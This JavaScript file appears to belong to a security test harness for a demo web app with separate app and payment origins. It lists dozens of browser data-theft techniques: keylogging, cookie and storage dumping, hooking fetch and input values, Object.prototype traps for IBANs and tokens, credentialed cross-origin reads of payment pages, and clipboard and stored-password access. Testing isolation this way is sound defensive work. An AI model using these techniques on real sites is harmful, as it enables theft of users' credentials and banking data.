/* oxlint-disable no-extend-native, typescript/unbound-method, typescript/no-misused-spread -- what hostile code does */
/* Ways to get data of the member. Each keeps what it finds, at once or until the page leaves. */
((hostile) => {
  const { settings, keep, make, added, wait, within, loaded, readWindow, listen } = hostile;
  const { app, pay, provider } = settings;
  const credentialed = { credentials: 'include' };
  const text = (address, options) =>
    fetch(address, options)
      .then((response) => response.text())
      .then(keep);
  const everyPath = (origin, options) =>
    Promise.all(settings.paths.map((path) => within(text(origin + path, options).catch(() => undefined))));
  const frameOf = async (address) => {
    const frame = added('iframe', { src: address });
    await loaded(frame);
    readWindow(frame.contentWindow);
  };
  const databases = async () => {
    for (const { name } of await indexedDB.databases()) {
      const opened = await new Promise((resolve, reject) => {
        const request = indexedDB.open(name);
        request.addEventListener('success', () => resolve(request.result));
        request.addEventListener('error', reject);
      });
      for (const store of opened.objectStoreNames) {
        const rows = opened.transaction(store).objectStore(store).getAll();
        rows.addEventListener('success', () => keep(rows.result));
      }
    }
    await wait(300);
  };

  hostile.ways.get = {
    'the elements of its own page': () => readWindow(window),
    'cookies of scripts': () => keep(document.cookie),
    'the store of cookies': async () => keep(await cookieStore.getAll()),
    'cookies of a parent domain': () => {
      document.cookie = 'auth.session=taken; domain=localhost; path=/';
      keep(document.cookie);
    },
    'local storage': () => keep({ ...localStorage }),
    'storage of the tab': () => keep({ ...sessionStorage }),
    'databases of the browser': databases,
    caches: async () => {
      for (const name of await caches.keys())
        for (const request of await (await caches.open(name)).keys()) await text(request.url);
    },
    'events of storage': () => addEventListener('storage', ({ key, newValue }) => keep({ key, newValue })),
    'channels of other tabs': () => {
      for (const name of settings.channels)
        new BroadcastChannel(name).addEventListener('message', ({ data }) => keep(data));
    },
    'messages to its window': () => addEventListener('message', ({ data }) => keep(data), true),
    'keys that are pressed': () => {
      for (const name of ['keydown', 'keypress', 'beforeinput', 'input', 'change', 'paste', 'compositionend'])
        addEventListener(name, (event) => keep({ key: event.key, data: event.data, value: event.target?.value }), true);
    },
    'changes of elements': () =>
      new MutationObserver((changes) => changes.forEach(({ target }) => keep(target.textContent))).observe(document, {
        subtree: true,
        childList: true,
        characterData: true,
        attributes: true,
      }),
    'a replaced fetch': () => listen(window, 'fetch'),
    'a replaced XMLHttpRequest': () => {
      listen(XMLHttpRequest.prototype, 'open');
      listen(XMLHttpRequest.prototype, 'send');
    },
    'replaced JSON': () => {
      listen(JSON, 'stringify');
      listen(JSON, 'parse');
    },
    'replaced methods of nodes': () => {
      listen(Node.prototype, 'appendChild');
      listen(Node.prototype, 'insertBefore');
      listen(Element.prototype, 'setAttribute');
    },
    'replaced values of fields': () => {
      const { get: read, set } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
      Object.defineProperty(HTMLInputElement.prototype, 'value', {
        get() {
          keep(read.call(this));
          return read.call(this);
        },
        set,
      });
    },
    'a property of every object': () => {
      for (const name of ['iban', 'code', 'email', 'token'])
        Object.defineProperty(Object.prototype, name, {
          configurable: true,
          set(value) {
            keep(value);
            Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
          },
        });
    },
    'a replaced event target': () => {
      const original = EventTarget.prototype.addEventListener;
      EventTarget.prototype.addEventListener = function (name, listener, ...others) {
        const wrapped =
          typeof listener === 'function'
            ? function (event) {
                keep({ name, value: event.target?.value, data: event.data });
                return listener.call(this, event);
              }
            : listener;
        return original.call(this, name, wrapped, ...others);
      };
    },
    'its own origin’s api': () => everyPath(''),
    'the api of the app': () => everyPath(app, credentialed),
    'the api of payments': () => everyPath(pay, credentialed),
    'the api of payments without CORS': () => everyPath(pay, { ...credentialed, mode: 'no-cors' }),
    'pages of payments by fetch': async () => {
      await within(text(`${pay}/transactions`, credentialed));
      await within(text(`${pay}/credits/p1/sdd`, credentialed));
    },
    'a cross-site XMLHttpRequest': async () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${pay}/api/mandates.php`);
      request.withCredentials = true;
      request.send();
      await wait(500);
      keep(request.responseText);
    },
    'the api of payments as a script': async () => {
      addEventListener('error', ({ message, error }) => keep({ message, error: String(error) }), true);
      try {
        await loaded(added('script', { src: `${pay}/api/mandates.php` }));
      } catch (error) {
        keep(String(error));
      }
    },
    'the api of the app as a style sheet': async () => {
      await loaded(added('link', { rel: 'stylesheet', href: `${app}/api/user.php` }));
      for (const sheet of document.styleSheets)
        try {
          for (const rule of sheet.cssRules) keep(rule.cssText);
        } catch {}
    },
    'the page of payments in a frame': () => frameOf(`${pay}/credits/p1/sdd`),
    'the page of the app in a frame': () => frameOf(`${app}/chats`),
    'payments in an object': async () => {
      const element = added('object', { data: `${pay}/credits/p1/sdd` });
      await loaded(element);
      readWindow(element.contentWindow);
    },
    'a window of payments': () => readWindow(window.open(`${pay}/credits/p1/sdd`)),
    'a window of the app': () => readWindow(window.open(`${app}/chats`)),
    'a window of the provider': () => readWindow(window.open(provider)),
    'a window with a name that others use': () => {
      for (const name of ['app', 'pay', 'payment', 'main']) readWindow(window.open('', name));
    },
    'the window that opened it': () => {
      if (window.opener) readWindow(window.opener);
      keep(document.referrer);
    },
    'a blank window that is sent to payments': async () => {
      const other = window.open('about:blank');
      other.addEventListener('keydown', ({ key }) => keep(key), true);
      readWindow(other);
      await wait(200);
      other.location = `${pay}/credits/p1/sdd`;
    },
    'questions to other windows': () => {
      addEventListener('message', ({ data }) => keep(data));
      const other = window.open(`${pay}/credits/p1/sdd`);
      setInterval(() => other.postMessage({ type: 'state', want: ['iban', 'code', 'user'] }, '*'), 200);
    },
    'a name of the window': () => keep(window.name),
    'entries of the history': () => keep(window.navigation?.entries().map(({ url }) => url)),
    'timings of requests': () => {
      keep(performance.getEntries());
      new PerformanceObserver((list) => keep(list.getEntries())).observe({ type: 'resource', buffered: true });
    },
    'reports of the browser': () =>
      new ReportingObserver((reports) => keep(reports.map(({ body }) => body)), { buffered: true }).observe(),
    'a service worker': async () => {
      await navigator.serviceWorker.register('/api/user.php').catch(keep);
      const blob = URL.createObjectURL(new Blob(['onfetch=()=>{}'], { type: 'text/javascript' }));
      await navigator.serviceWorker.register(blob).catch(keep);
    },
    'a shared worker': async () => {
      const blob = URL.createObjectURL(new Blob(['onconnect=()=>{}'], { type: 'text/javascript' }));
      const worker = new SharedWorker(blob);
      worker.port.addEventListener('message', ({ data }) => keep(data));
      worker.port.start();
      await wait(300);
    },
    'the WebSocket of the app': () => {
      const socket = new WebSocket(`${app.replace('http', 'ws')}/api/events.php?since=0`);
      socket.addEventListener('message', ({ data }) => keep(data));
    },
    'the WebSocket of its own origin': () => {
      const socket = new WebSocket(`${location.origin.replace('http', 'ws')}/api/events.php?since=0`);
      socket.addEventListener('message', ({ data }) => keep(data));
    },
    'a stream of payments': () => {
      const source = new EventSource(`${pay}/api/transactions.php`, { withCredentials: true });
      source.addEventListener('message', ({ data }) => keep(data));
    },
    'a form to payments in a window': async () => {
      readWindow(window.open('about:blank', 'posted'));
      const form = added('form', { action: `${pay}/api/directdebit.php`, method: 'post', target: 'posted' });
      form.submit();
      await wait(500);
    },
    'the crossing to payments': async () => {
      const challenge = 'A'.repeat(43);
      await text('/crossings/begin', { method: 'POST', body: '{}', ...credentialed }).catch(() => undefined);
      await text(`/api/../crossings/begin`, { method: 'POST', body: '{}', ...credentialed }).catch(() => undefined);
      await text(`/__mfe/leave?to=/transactions&challenge=${challenge}`, credentialed).catch(() => undefined);
      readWindow(window.open(`/__mfe/leave?to=/transactions&challenge=${challenge}`));
    },
    'the clipboard': async () => keep(await within(navigator.clipboard.readText())),
    'stored passwords': async () => keep(await within(navigator.credentials.get({ password: true }))),
    'pictures of the app in a canvas': async () => {
      const image = added('img', { src: `${app}/media/photo`, crossOrigin: 'use-credentials' });
      await loaded(image);
      const canvas = make('canvas', {});
      canvas.getContext('2d').drawImage(image, 0, 0);
      keep(canvas.toDataURL());
    },
    'a page of payments rendered in advance': async () => {
      const rules = { prerender: [{ source: 'list', urls: [`${pay}/transactions`] }] };
      try {
        added('script', { type: 'speculationrules', textContent: JSON.stringify(rules) });
      } catch (error) {
        keep(String(error));
      }
      await wait(300);
    },
    'the mails and text messages of the demo': async () => {
      await text('/__dev/outbox');
      await frameOf('/__dev/');
    },
    'a window with the mails of the demo': () => readWindow(window.open('/__dev/')),
  };
})(window.hostile);
